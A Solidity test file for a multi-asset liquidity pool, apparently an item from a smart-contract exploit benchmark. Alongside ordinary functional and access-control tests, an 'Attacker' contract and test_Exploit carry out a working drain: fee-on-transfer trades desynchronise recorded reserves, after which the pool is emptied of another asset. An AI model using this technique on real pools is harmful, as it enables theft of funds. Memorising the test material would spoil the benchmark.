// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./BasketPool.sol";
import {Ownable} from "@openzeppelin/contracts@5.4.0/access/Ownable.sol";

// assay-canary-5c3f00d5-4935-4714-a656-1322062180b8

interface Vm {
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

/// A levy is rounded up and burned.
contract Coin is ERC20 {
    address private minter = msg.sender;
    uint256 private immutable levyPercent;

    constructor(uint256 levyPercent_) ERC20("Coin", "COIN") {
        levyPercent = levyPercent_;
    }

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }

    function _update(address from, address to, uint256 amount) internal virtual override {
        super._update(from, to, amount);
        if (from == address(0) || to == address(0)) return;
        super._update(to, address(0), (amount * levyPercent + 99) / 100);
    }
}

/// Comes back to the pool while it moves, and insists on being told off.
contract Boomerang is Coin(0) {
    address private pool;
    bytes private again;

    function plan(address pool_, bytes calldata again_) external {
        (pool, again) = (pool_, again_);
    }

    function _update(address from, address to, uint256 amount) internal override {
        super._update(from, to, amount);
        if (again.length == 0) return;
        (bool ok, bytes memory why) = pool.call(again);
        require(!ok && bytes4(why) == ReentrancyGuard.ReentrancyGuardReentrantCall.selector, "let through");
    }
}

/// Moves the levied coin to and fro until the record says much more than there is, takes the rest, and has it recorded anew.
contract Attacker {
    BasketPool private pool;
    Coin private levied;

    constructor(BasketPool pool_, Coin levied_, Coin plain_) {
        (pool, levied) = (pool_, levied_);
        levied_.approve(address(pool_), type(uint256).max);
        plain_.approve(address(pool_), type(uint256).max);
    }

    function trade(uint256 assetIn, uint256 assetOut, uint256 amount) private {
        pool.exchange(assetIn, assetOut, amount, 0, address(this), block.timestamp);
    }

    function run() external {
        for (uint256 i = 0; i < 8; ++i) {
            uint256 there = levied.balanceOf(address(pool));
            uint256[] memory held = pool.reserves();
            uint256 want = (held[0] * 88) / 100;
            bool last = there <= want;
            if (last) want = there - 1;
            uint256 net = (held[1] * want) / (held[0] - want);
            trade(1, 0, (net * 10_000) / 9_970);
            if (last) break;
            trade(0, 1, levied.balanceOf(address(this)));
        }
        for (uint256 i = 0; i < 14; ++i) {
            pool.synchronise(0);
            uint256 held = pool.reserves()[0];
            trade(0, 1, held + 1);
        }
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_790_000_000;
    address private constant ANA = address(0xA9A);
    address private constant GUARD = address(0x6A4D);

    Coin internal levied;
    Coin internal plain;
    Coin internal third;
    BasketPool internal pool;
    Attacker internal mallory;

    function setUp() public {
        vm.warp(START);
        levied = new Coin(5);
        plain = new Coin(0);
        third = new Coin(0);
        IERC20[] memory assets = new IERC20[](3);
        (assets[0], assets[1], assets[2]) = (levied, plain, third);
        pool = new BasketPool(assets, address(this), 30);
        levied.mint(address(this), 300_000e18);
        plain.mint(address(this), 300_000e18);
        third.mint(address(this), 300_000e18);
        levied.approve(address(pool), type(uint256).max);
        plain.approve(address(pool), type(uint256).max);
        third.approve(address(pool), type(uint256).max);
        pool.open(_three(200_000e18, 100_000e18, 50_000e18));

        mallory = new Attacker(pool, levied, plain);
        plain.mint(address(mallory), 1_000_000e18);
    }

    function _three(uint256 a, uint256 b, uint256 c) private pure returns (uint256[] memory list) {
        list = new uint256[](3);
        (list[0], list[1], list[2]) = (a, b, c);
    }

    function _two(uint256 a, uint256 b) private pure returns (uint256[] memory list) {
        list = new uint256[](2);
        (list[0], list[1]) = (a, b);
    }

    function _swap(uint256 assetIn, uint256 assetOut, uint256 amount, uint256 minimum) private returns (uint256) {
        return pool.exchange(assetIn, assetOut, amount, minimum, address(this), block.timestamp);
    }

    function test_Regular() public {
        require(pool.reserves()[0] == 190_000e18 && pool.balanceOf(address(this)) == 999e18, "open");
        require(pool.sharesFor(_three(19_000e18, 10_000e18, 5_000e18)) == 100e18, "a tenth");
        uint256 shares = pool.provide(_three(20_000e18, 10_000e18, 5_000e18), 99e18, block.timestamp);
        require(shares == 100e18 && pool.reserves()[1] == 110_000e18, "provided a tenth");

        uint256 expected = pool.quote(1, 2, 1_000e18);
        require(expected > 490e18 && expected < 500e18, "near the proportion");
        require(pool.exchange(1, 2, 1_000e18, expected, ANA, block.timestamp) == expected, "exchanged");
        require(third.balanceOf(ANA) == expected, "received");
        require(_swap(2, 0, 100e18, 0) > 370e18, "the levied coin goes out by the record");

        plain.transfer(address(pool), 500e18);
        pool.synchronise(1);
        require(pool.reserves()[1] == 111_500e18, "a gift");
        pool.transfer(ANA, 99e18);
        uint256 had = plain.balanceOf(address(this));
        expected = (pool.reserves()[1] * 500) / 1_100;
        require(pool.amountsFor(500e18)[1] == expected, "five elevenths");
        pool.withdraw(500e18, _three(0, expected, 0), address(this));
        require(plain.balanceOf(address(this)) - had == expected && pool.totalSupply() == 600e18, "withdrawn");
        require(pool.assetCount() == 3 && pool.assetAt(1) == plain && pool.isAsset(plain), "assets");

        pool.approve(ANA, 50e18);
        vm.prank(ANA);
        pool.transferFrom(address(this), ANA, 50e18);
        require(pool.balanceOf(ANA) == 149e18, "shares moved");
        _settings();
    }

    function _settings() private {
        pool.announceFee(50);
        pool.withdrawFee();
        pool.announceFee(10);
        vm.warp(START + 2 days);
        vm.prank(ANA);
        pool.applyFee();
        require(pool.feeBps() == 10, "a smaller fee");
        pool.setGuardian(GUARD);
        vm.startPrank(GUARD);
        pool.setSuspended(1, true);
        pool.pause();
        vm.stopPrank();
        require(pool.paused() && pool.suspended(1), "suspended");
        pool.withdraw(1e18, _three(0, 0, 0), ANA);
        pool.unpause();
        pool.setSuspended(1, false);
        pool.setCap(1, 200_000e18);
        _swap(1, 2, 1e18, 0);
        Coin stray = new Coin(0);
        stray.mint(address(pool), 5e18);
        pool.recover(stray, ANA, 5e18);
        require(stray.balanceOf(ANA) == 5e18, "recovered");
        uint256 recorded = pool.reserves()[2];
        third.transfer(address(pool), 10e18);
        pool.provide(_three(30e18, 30e18, 30e18), 0, block.timestamp);
        require(pool.reserves()[2] == recorded + 40e18, "interest is recorded first");
        pool.transferOwnership(ANA);
        vm.startPrank(ANA);
        pool.acceptOwnership();
        require(pool.owner() == ANA, "handed over");
        pool.renounceOwnership();
        vm.stopPrank();
    }

    // What is refused, each from the state after setUp().

    function refuses(address who, bytes memory why) private {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function _stranger() private {
        refuses(ANA, abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ANA));
    }

    function test_RefusesStrangers() public {
        _stranger();
        pool.setGuardian(ANA);
        _stranger();
        pool.setCap(0, 1);
        _stranger();
        pool.recover(IERC20(address(this)), ANA, 1);
        _stranger();
        pool.open(_three(1, 1, 1));
        _stranger();
        pool.announceFee(1);
        pool.announceFee(1);
        _stranger();
        pool.withdrawFee();
        _stranger();
        pool.transferOwnership(ANA);
        _stranger();
        pool.renounceOwnership();
        _stranger();
        pool.acceptOwnership();
        refuses(ANA, abi.encodeWithSelector(BasketPool.NotGuardian.selector, ANA));
        pool.setSuspended(0, true);
        refuses(ANA, abi.encodeWithSelector(BasketPool.NotGuardian.selector, ANA));
        pool.pause();
        pool.setGuardian(GUARD);
        pool.pause();
        refuses(GUARD, abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, GUARD));
        pool.unpause();
    }

    /// Pools have two to eight different assets and a small fee.
    function test_RefusesPools() public {
        vm.expectRevert(abi.encodeWithSelector(AssetLedger.AssetCountOutOfRange.selector, 1));
        new BasketPool(new IERC20[](1), ANA, 30);
        vm.expectRevert(abi.encodeWithSelector(AssetLedger.AssetCountOutOfRange.selector, 9));
        new BasketPool(_nine(), ANA, 30);
        IERC20[] memory assets = new IERC20[](2);
        assets[0] = plain;
        vm.expectRevert(abi.encodeWithSelector(AssetLedger.AssetUnusable.selector, address(0)));
        new BasketPool(assets, ANA, 30);
        assets[1] = plain;
        vm.expectRevert(abi.encodeWithSelector(AssetLedger.AssetUnusable.selector, plain));
        new BasketPool(assets, ANA, 30);
        assets[1] = third;
        vm.expectRevert(abi.encodeWithSelector(FeeSchedule.FeeTooHigh.selector, 101, 100));
        new BasketPool(assets, ANA, 101);
        new BasketPool(assets, ANA, 100);
    }

    function _nine() private pure returns (IERC20[] memory assets) {
        assets = new IERC20[](9);
        for (uint160 i = 0; i < 9; ++i) assets[i] = IERC20(address(i + 1));
    }

    function test_RefusesFees() public {
        vm.expectRevert(abi.encodeWithSelector(FeeSchedule.FeeTooHigh.selector, 101, 100));
        pool.announceFee(101);
        vm.expectRevert(FeeSchedule.NothingAnnounced.selector);
        pool.applyFee();
        vm.expectRevert(FeeSchedule.NothingAnnounced.selector);
        pool.withdrawFee();
        pool.announceFee(100);
        vm.warp(START + 2 days - 1);
        vm.expectRevert(abi.encodeWithSelector(FeeSchedule.NoticeRunning.selector, START + 2 days));
        pool.applyFee();
    }

    function test_RefusesToOpen() public {
        vm.expectRevert(BasketPool.OpenAlready.selector);
        pool.open(_three(1e18, 1e18, 1e18));
        BasketPool fresh = _fresh(plain);
        vm.expectRevert(abi.encodeWithSelector(AssetLedger.LengthMismatch.selector, 3, 2));
        fresh.open(_three(1, 1, 1));
        vm.expectRevert(abi.encodeWithSelector(BasketPool.EmptyReserve.selector, 1));
        fresh.open(_two(1, 0));
    }

    /// Shares that come to nothing, or to less than allowed.
    function test_RefusesShares() public {
        vm.expectRevert(abi.encodeWithSelector(BasketPool.BelowMinimum.selector, 0, 0));
        pool.provide(_three(0, 1e18, 1e18), 0, block.timestamp);
        vm.expectRevert(abi.encodeWithSelector(BasketPool.BelowMinimum.selector, 100e18, 101e18));
        pool.provide(_three(20_000e18, 10_000e18, 5_000e18), 101e18, block.timestamp);
        vm.expectRevert(abi.encodeWithSelector(AssetLedger.LengthMismatch.selector, 2, 3));
        pool.provide(_two(1e18, 1e18), 0, block.timestamp);
        vm.expectRevert(abi.encodeWithSelector(AssetLedger.LengthMismatch.selector, 2, 3));
        pool.withdraw(1e18, _two(0, 0), ANA);
        vm.expectRevert(abi.encodeWithSelector(AssetLedger.LengthMismatch.selector, 2, 3));
        pool.sharesFor(_two(1, 1));
        vm.expectRevert(abi.encodeWithSelector(BasketPool.BelowMinimum.selector, 100e18, 101e18));
        pool.withdraw(1e18, _three(0, 101e18, 0), ANA);
        vm.expectRevert(abi.encodeWithSelector(BasketPool.Expired.selector, START - 1));
        pool.provide(_three(20_000e18, 10_000e18, 5_000e18), 0, START - 1);
        refuses(ANA, abi.encodeWithSignature("ERC20InsufficientBalance(address,uint256,uint256)", ANA, 0, 1));
        pool.withdraw(1, _three(0, 0, 0), ANA);
    }

    function test_RefusesExchanges() public {
        vm.expectRevert(abi.encodeWithSelector(BasketPool.SameAsset.selector, 1));
        _swap(1, 1, 1e18, 0);
        vm.expectRevert(abi.encodeWithSelector(BasketPool.BelowMinimum.selector, 0, 0));
        _swap(1, 2, 0, 0);
        uint256 out = pool.quote(1, 2, 1e18);
        vm.expectRevert(abi.encodeWithSelector(BasketPool.BelowMinimum.selector, out, out + 1));
        _swap(1, 2, 1e18, out + 1);
        vm.expectRevert(abi.encodeWithSelector(BasketPool.Expired.selector, START - 1));
        pool.exchange(1, 2, 1e18, 0, ANA, START - 1);
        plain.mint(address(this), 2_000_000e18);
        out = pool.quote(1, 2, 2_000_000e18);
        vm.expectRevert(abi.encodeWithSelector(BasketPool.AboveShareOfReserve.selector, out, 45_000e18));
        _swap(1, 2, 2_000_000e18, 0);
        pool.setSuspended(1, true);
        vm.expectRevert(abi.encodeWithSelector(BasketPool.Suspended.selector, 1));
        _swap(1, 2, 1e18, 0);
        vm.expectRevert(abi.encodeWithSelector(BasketPool.Suspended.selector, 1));
        _swap(2, 1, 1e18, 0);
    }

    function test_RefusesAboveTheCap() public {
        pool.setCap(1, 100_500e18);
        _swap(1, 2, 500e18, 0);
        vm.expectRevert(abi.encodeWithSelector(BasketPool.AboveCap.selector, 1, 100_500e18));
        _swap(1, 2, 1e18, 0);
        vm.expectRevert(abi.encodeWithSelector(BasketPool.AboveCap.selector, 1, 100_500e18));
        pool.provide(_three(20_000e18, 10_000e18, 5_000e18), 0, block.timestamp);
    }

    function test_RefusesWhilePaused() public {
        pool.pause();
        vm.expectRevert(Pausable.EnforcedPause.selector);
        _swap(1, 2, 1e18, 0);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        pool.provide(_three(20_000e18, 10_000e18, 5_000e18), 0, block.timestamp);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        pool.pause();
        pool.unpause();
        vm.expectRevert(Pausable.ExpectedPause.selector);
        pool.unpause();
    }

    function test_RefusesToRecoverAssets() public {
        vm.expectRevert(abi.encodeWithSelector(BasketPool.IsAsset.selector, plain));
        pool.recover(plain, ANA, 1);
    }

    function _fresh(Coin first) private returns (BasketPool fresh) {
        IERC20[] memory assets = new IERC20[](2);
        (assets[0], assets[1]) = (first, third);
        fresh = new BasketPool(assets, address(this), 30);
        first.approve(address(fresh), type(uint256).max);
        third.approve(address(fresh), type(uint256).max);
    }

    /// One call at a time.
    function test_RefusesASecondCall() public {
        Boomerang coin = new Boomerang();
        coin.mint(address(this), 10e18);
        BasketPool fresh = _fresh(coin);
        bytes[5] memory calls = [
            abi.encodeCall(fresh.open, (_two(1, 1))),
            abi.encodeCall(fresh.provide, (_two(1, 1), 0, block.timestamp)),
            abi.encodeCall(fresh.withdraw, (0, _two(0, 0), ANA)),
            abi.encodeCall(fresh.exchange, (0, 1, 1, 0, ANA, block.timestamp)),
            abi.encodeCall(fresh.synchronise, (0))
        ];
        fresh.open(_two(1e18, 1e18));
        for (uint256 i = 0; i < 5; ++i) {
            coin.plan(address(fresh), calls[i]);
            fresh.exchange(0, 1, 1e15, 0, ANA, block.timestamp);
        }
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = plain.balanceOf(address(mallory));
        exploit();
        require(plain.balanceOf(address(mallory)) >= before + 99_000e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function asset() public view returns (address) {
        return address(plain);
    }
}
